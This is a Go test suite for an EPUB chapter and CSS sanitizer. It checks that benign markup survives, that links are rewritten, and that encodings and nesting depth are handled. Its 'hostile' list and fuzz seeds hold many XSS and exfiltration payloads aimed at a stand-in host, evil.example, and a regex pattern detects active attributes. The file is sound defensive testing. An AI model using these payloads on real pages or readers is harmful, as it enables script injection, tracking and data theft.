package reading

import (
	"encoding/xml"
	"io"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/text/encoding/simplifiedchinese"
)

var ofBook = places{from: "OEBPS/text/c1.xhtml", has: func(href string) bool {
	return words("OEBPS/text/c1.xhtml OEBPS/text/c2.xhtml OEBPS/css/style.css OEBPS/img/a.png OEBPS/img/drawing.svg")[href]
}}

// bodyOf returns what a chapter's body becomes.
func bodyOf(t *testing.T, body string) string {
	t.Helper()
	out := string(cleanChapter([]byte("<html><head/><body>"+body+"</body></html>"), ofBook))
	wellFormed(t, out)
	_, rest, _ := strings.Cut(out, "<body>")
	inside, _, _ := strings.Cut(rest, "</body>")
	return inside
}

// wellFormed wants a strict reader to come to the end.
func wellFormed(t *testing.T, text string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(text))
	for {
		if _, err := d.Token(); err == io.EOF {
			return
		} else if err != nil {
			t.Fatalf("%v in %s", err, text)
		}
	}
}

func TestWhatStays(t *testing.T) {
	for in, want := range map[string]string{
		`<p id="p1" class="x" lang="zh">字</p>`:                                    `<p id="p1" class="x" lang="zh">字</p>`,
		`<section epub:type="chapter" role="doc-chapter"><h2>一</h2></section>`:    `<section epub:type="chapter" role="doc-chapter"><h2>一</h2></section>`,
		`<ruby>漢<rt>かん</rt></ruby>`:                                               `<ruby>漢<rt>かん</rt></ruby>`,
		`<a id="x"/>after`:                                                        `<a id="x"></a>after`,
		`<br/>a<hr>b`:                                                             `<br/>a<hr/>b`,
		`a&nbsp;b &lt;i&gt;`:                                                      "a\u00a0b &lt;i&gt;",
		`<a href="c2.xhtml#n1">n</a>`:                                             `<a href="../../OEBPS/text/c2.xhtml#n1">n</a>`,
		`<a href="#n1">n</a>`:                                                     `<a href="#n1">n</a>`,
		`<img src="../img/a.png" alt="图" width="10"/>`:                            `<img src="../../OEBPS/img/a.png" alt="图" width="10"/>`,
		`<img src="../img/drawing.svg"/>`:                                         `<img src="../../OEBPS/img/drawing.svg"/>`,
		`<svg viewBox="0 0 1 1"><image xlink:href="../img/a.png"/></svg>`:         `<img src="../../OEBPS/img/a.png" alt="" xmlns="http://www.w3.org/1999/xhtml"/>`,
		`<table><tr><td colspan="2">a</td></tr></table>`:                          `<table><tr><td colspan="2">a</td></tr></table>`,
		`<p style="color:red;background:url(../img/a.png)">x</p>`:                 `<p style="color:red;background:url(&#34;../../OEBPS/img/a.png&#34;)">x</p>`,
		`<math><mfrac><mn>1</mn><mi mathvariant="bold">x</mi></mfrac></math>`:     `<math xmlns="http://www.w3.org/1998/Math/MathML"><mfrac><mn>1</mn><mi mathvariant="bold">x</mi></mfrac></math>`,
		`<m:math xmlns:m="x"><m:mi>y</m:mi></m:math>`:                             `<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>y</mi></math>`,
		`<math><mtext><b>t</b></mtext></math>`:                                    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><b xmlns="http://www.w3.org/1999/xhtml">t</b></mtext></math>`,
		`<custom-thing>kept</custom-thing><center>c</center>`:                     `kept<center>c</center>`,
		`<p>one<b>two</p>three`:                                                   `<p>one<b>two</b></p>three`,
		`</div><p>x`:                                                              `<p>x</p>`,
		`<object data="a.swf"><p>instead</p></object>`:                            `<p>instead</p>`,
		"<p>\x01\x02a</p>":                                                        "<p>\ufffd\ufffda</p>",
		`<p id="a" id="b">x</p>`:                                                  `<p id="a">x</p>`,
		`<![CDATA[a < b]]>`:                                                       `a &lt; b`,
		`<img src="data:image/png;base64,iVBORw0KGgo="/>`:                         `<img src="data:image/png;base64,iVBORw0KGgo="/>`,
		`<video controls="" src="../img/a.png"><track kind="subtitles"/></video>`: `<video controls="" src="../../OEBPS/img/a.png"><track kind="subtitles"/></video>`,
	} {
		if got := bodyOf(t, in); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", in, got, want)
		}
	}
}

// hostile are ways to run, to call out, to leave the page or to look like another.
var hostile = []string{
	`<script>alert(1)</script>`, `<script src="c2.xhtml"/>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<svg onload="alert(1)"><circle/></svg>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><foreignObject><iframe src="https://evil.example"/></foreignObject></svg>`,
	`<svg><image xlink:href="https://evil.example/a.png"/></svg>`, `<svg><use href="data:image/svg+xml,x"/></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<p onclick="alert(1)">x</p>`, `<img src="x" onerror="alert(1)"/>`, `<body onload="alert(1)">`, `<img src="https://evil.example/pixel.png"/>`,
	`<img src="//evil.example/pixel.png"/>`, `<img src="\\evil.example\x"/>`, `<img srcset="https://evil.example/a 2x" src="../img/a.png"/>`, `<img src="../../../other/img/a.png"/>`,
	`<img src="/library/content/another/OEBPS/img/a.png"/>`, `<img src="data:image/svg+xml;base64,PHN2Zz4="/>`, `<img src="../img/a.png?x=https://evil.example" longdesc="https://evil.example"/>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="data:text/html,x">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="https://evil.example" target="_top" ping="https://evil.example">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>`, `<object data="https://evil.example/x.swf"/>`, `<embed src="x.swf"/>`, `<applet code="x"/>`,
	`<form action="https://evil.example"><input name="password"/><button formaction="javascript:x">go</button></form>`, `<isindex action="https://evil.example"/>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example"/>`, `<meta http-equiv="Content-Security-Policy" content="script-src *"/>`, `<base href="https://evil.example/"/>`,
	`<link rel="prefetch" href="https://evil.example"/>`, `<link rel="dns-prefetch" href="//evil.example"/>`, `<link rel="stylesheet" href="https://evil.example/x.css"/>`, `<link rel="import" href="c2.xhtml"/>`,
	`<link rel="preload stylesheet" href="https://evil.example/x.css"/>`, `<link rel="manifest" href="c2.xhtml"/>`,
	`<style>@import "https://evil.example/x.css";</style>`, `<style>p{background:url(https://evil.example/x)}</style>`, `<style>p{background:u\72l(https://evil.example/x)}</style>`,
	`<style>@im\70ort url(https://evil.example/x.css);</style>`, `<style>p{background:image-set("https://evil.example/x" 1x)}</style>`, `<style>p{width:expression(alert(1))}</style>`,
	`<style>p{-moz-binding:url(https://evil.example/x.xml#x)}</style>`, `<style>p{behavior:url(x.htc)}</style>`, `<style>/*</style><script>alert(1)</script>*/`, `<style><![CDATA[@import url(//evil.example);]]></style>`,
	`<p style="background:url(https://evil.example/x)">x</p>`, `<p style="background:url('//evil.example/x')">x</p>`, `<p style="list-style:\75\72\6c(https://evil.example)">x</p>`,
	`<p style="background:url(&quot;https://evil.example/x)">x</p>`, `<p style="background-image:src('https://evil.example/x')">x</p>`, `<p style="--x:url(https://evil.example);background:var(--x)">x</p>`,
	`<td background="https://evil.example/x">x</td>`, `<q cite="https://evil.example">x</q>`, `<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay=""/>`, `<audio><source src="//evil.example/a.mp3"/></audio>`,
	`<track src="https://evil.example/x.vtt"/>`, `<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:x">x</maction></math>`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`, `<math altimg="https://evil.example/x"><mglyph src="https://evil.example/x"/></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>`,
	`<template><script>alert(1)</script></template>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<title/><script>alert(1)</script>`, `<style/><script>alert(1)</script>`, `<portal src="https://evil.example"/>`, `<fencedframe src="https://evil.example"/>`, `<frameset><frame src="https://evil.example"/></frameset>`,
	`<marquee onstart="alert(1)">x</marquee>`, `<details ontoggle="alert(1)" open="">x</details>`, `<input autofocus onfocus="alert(1)"/>`, `<select onfocus=alert(1) autofocus><option>x</option></select>`,
	`<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>`, `<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/x">]><p>&x;</p>`, `<xi:include href="https://evil.example"/>`,
	`<html:script>alert(1)</html:script>`, `<svg:svg><svg:script>alert(1)</svg:script></svg:svg>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<h:iframe src="https://evil.example"/>`,
	`<p xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</p>`, `<handler xmlns="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`,
	`<img alt="x" usemap="#m"/><map name="m"><area href="https://evil.example"/></map>`, `<epub:trigger action="play" ref="x"/>`, `<menuitem icon="https://evil.example/x"/>`, `<body background="https://evil.example/x">`,
	`<html manifest="https://evil.example/x">`, `<html style="background:url(https://evil.example)">`, `<ins cite="https://evil.example">x</ins>`, `<dialog open=""><form method="dialog"/></dialog>`,
}

// activeIn walks a chapter as a browser does and returns whatever might run, fetch,
// send or lead out of the book.
func activeIn(t *testing.T, text string) (found []string) {
	t.Helper()
	policy, d, inStyle := newPolicy(), xml.NewDecoder(strings.NewReader(text)), false
	for {
		token, err := d.Token()
		if err == io.EOF {
			return found
		}
		if err != nil {
			t.Fatalf("%v in %s", err, text)
		}
		switch e := token.(type) {
		case xml.StartElement:
			name := e.Name.Local
			inStyle = name == "style"
			if known := policy.html[name] || policy.math[name] || words("html head title body link style meta")[name]; !known {
				found = append(found, "<"+name)
			}
			for _, a := range e.Attr {
				if a.Name.Space != "xmlns" && a.Name.Local != "xmlns" && activeAttribute.MatchString(a.Name.Local+"="+a.Value) {
					found = append(found, name+" "+a.Name.Local+"="+a.Value)
				}
			}
		case xml.EndElement:
			inStyle = false
		case xml.CharData:
			if inStyle && activeStyle.Match(e) {
				found = append(found, string(e))
			}
		case xml.ProcInst:
			if e.Target != "xml" {
				found = append(found, "<?"+e.Target)
			}
		}
	}
}

var (
	activeAttribute = regexp.MustCompile(`(?i)^(on.*|srcdoc|srcset|action|formaction|data|cite|background|ping|http-equiv|autoplay|usemap|longdesc|altimg|manifest|target|xlink)=` +
		`|^(href|src|poster)=([a-z]+:([^i]|i[^m])|[a-z]+:image/svg|/|\\|.*/other/)|^rel=.*(pre|import|manifest)|^style=.*(evil|expression|binding|behavior|\\)`)
	activeStyle = regexp.MustCompile(`(?i)evil|expression|binding|behavior|\\`)
)

func TestNothingHostileStays(t *testing.T) {
	left := 0
	for _, attack := range hostile {
		for _, frame := range []string{"<html><head>%</head><body><p>x</p></body></html>", "<html><head/><body><p>%</p></body></html>", "%"} {
			out := string(cleanChapter([]byte(strings.ReplaceAll(frame, "%", attack)), ofBook))
			for _, found := range activeIn(t, out) {
				left++
				t.Errorf("%s\nleaves %q in %s", attack, found, out)
			}
		}
	}
	t.Logf("%d attacks in 3 places: %d active constructs left", len(hostile), left)
}

// TestTheTestSees: what is looked for above is found where it is not taken out.
func TestTheTestSees(t *testing.T) {
	for _, attack := range []string{`<script/>`, `<p onclick="x"/>`, `<a href="javascript:x"/>`, `<img src="//evil.example"/>`, `<img src="https://evil.example"/>`,
		`<style>@import "https://evil.example"</style>`, `<p style="x:url(https://evil.example)"/>`, `<meta http-equiv="refresh"/>`, `<link rel="prefetch"/>`, `<svg/>`} {
		if len(activeIn(t, attack)) == 0 {
			t.Errorf("%s is not seen", attack)
		}
	}
}

// FuzzChapter wants every chapter to come out well formed, and again the same.
func FuzzChapter(f *testing.F) {
	for _, attack := range hostile {
		f.Add([]byte(attack))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		once := cleanChapter(raw, ofBook)
		wellFormed(t, string(once))
	})
}

func TestHeadOfChapter(t *testing.T) {
	in := `<html lang="zh" class="v"><head><title>第一章 &amp;</title><link href="../css/style.css" rel="stylesheet"/><meta name="viewport" content="width=600, height=800"/>` +
		`<style>p &gt; b{color:red}</style></head><body class="c" epub:type="bodymatter"><p>x</p></body></html>`
	want := `<?xml version="1.0" encoding="utf-8"?>` + "\n<!DOCTYPE html>\n" + `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" lang="zh" class="v">` +
		`<head><title>第一章 &amp;</title><link rel="stylesheet" type="text/css" href="../../OEBPS/css/style.css"/><meta name="viewport" content="width=600, height=800"/>` +
		`<style>p &gt; b{color:red}</style></head><body class="c" epub:type="bodymatter"><p>x</p></body></html>` + "\n"
	if got := string(cleanChapter([]byte(in), ofBook)); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestEncodings(t *testing.T) {
	text := `<?xml version="1.0" encoding="GBK"?><html><body><p>政务读书馆</p></body></html>`
	gbk, _ := simplifiedchinese.GBK.NewEncoder().Bytes([]byte(text))
	unnamed, _ := simplifiedchinese.GBK.NewEncoder().Bytes([]byte(`<html><body><p>政务读书馆</p></body></html>`))
	for name, raw := range map[string][]byte{"GBK": gbk, "GBK without a name": unnamed, "UTF-8": []byte("\xef\xbb\xbf" + text),
		"UTF-16": []byte("\xff\xfe" + utf16le(text))} {
		if out := string(cleanChapter(raw, ofBook)); !strings.Contains(out, "<p>政务读书馆</p>") {
			t.Errorf("%s: %s", name, out)
		}
	}
}

func utf16le(text string) string {
	var out strings.Builder
	for _, r := range text {
		out.WriteByte(byte(r))
		out.WriteByte(byte(r >> 8))
	}
	return out.String()
}

func TestDepth(t *testing.T) {
	out := bodyOf(t, strings.Repeat("<div>", 5000)+"deep")
	if n := strings.Count(out, "<div>"); n != maxDepth || !strings.Contains(out, "deep") {
		t.Errorf("%d elements within one another", n)
	}
}

func TestStyleSheets(t *testing.T) {
	for in, want := range map[string]string{
		`p{color:red}`:                         `p{color:red}`,
		`@import "style.css";p{}`:              `p{}`, // is not of the book
		`@import url(../css/style.css) print;`: `@import url("../../OEBPS/css/style.css") print;`,
		`@import 'https://evil.example';a{}`:   `a{}`,
		`@charset "gbk";a{}`:                   `a{}`,
		`@namespace epub "http://www.idpf.org/2007/ops";[epub|type="x"]{}`: `@namespace epub "http://www.idpf.org/2007/ops";[epub|type="x"]{}`,
		`@font-face{src:url('../img/a.png')}`:                              `@font-face{src:url("../../OEBPS/img/a.png")}`,
		`@font-face{src:url(res:///x)}`:                                    `@font-face{src:x-none}`,
		`a{b:url(  "https://evil.example" )}`:                              `a{b:x-none}`,
		`a{b:url(ht\tps://evil.example)}`:                                  `a{b:x-none}`,
		`a{b:url()}`:                                                       `a{b:x-none}`,
		`a/*x*/{}<!-- -->`:                                                 `a {}    `,
		`a{content:"https://no.fetch"}`:                                    `a{content:"https://no.fetch"}`,
		`@media (min-width:3em){a{color:#fff}}`:                            `@media (min-width:3em){a{color:#fff}}`,
	} {
		if got := cleanCSS(in, ofBook); strings.TrimSpace(got) != strings.TrimSpace(want) {
			t.Errorf("%s\ngot  %q\nwant %q", in, got, want)
		}
	}
}
